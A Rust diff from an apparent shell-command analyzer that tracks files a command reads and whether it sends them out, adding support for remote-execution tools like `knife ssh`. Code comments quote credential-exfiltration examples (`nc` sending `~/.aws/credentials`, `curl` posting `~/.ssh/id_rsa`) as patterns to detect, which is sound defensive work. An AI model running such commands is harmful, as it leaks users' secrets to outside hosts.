@@ -526,13 +526,17 @@ impl Walk<'_> {
     /// What the program's role in the table makes of the command.
     fn by_role(&mut self, cmd: &mut Peeled, call: &ProgramCall, io: &Io, shell: &mut ShellState) -> Step {
         let before = self.out.reads.len();
-        self.reads(call, cmd.operands(), io, &cmd.dirs.clone());
-        self.sends_what_was_read(call, before);
+        let sends = self.reads(call, cmd.operands(), io, &cmd.dirs.clone());
+        self.sends_what_was_read(call, before, &sends);
         if let Feed::File(path) = io.feed {
             // `nc host 80 < ~/.aws/credentials`, `cat ~/.ssh/id_rsa | curl -d @- URL`: the file a
             // program reads on standard input is a text `PROG ARGS < PATH` for the rules, which
             // say which programs send what they read.
             self.out.texts.push(format!("{} < {}", text(&call.name, &call.args), self.shown(path)));
+        }
+        // `knife ssh QUERY 'cmd'`: the command runs on every node the query finds.
+        if let Some(word) = super::remote::remote_command(&call.name, &call.args).and_then(|k| cmd.operands().get(k)) {
+            self.script_word(&word.clone(), &Dirs::Unknown, shell, io.reparse);
         }
         if call.name == "read" {
             self.read_line(cmd.operands(), io.feed, &cmd.dirs);
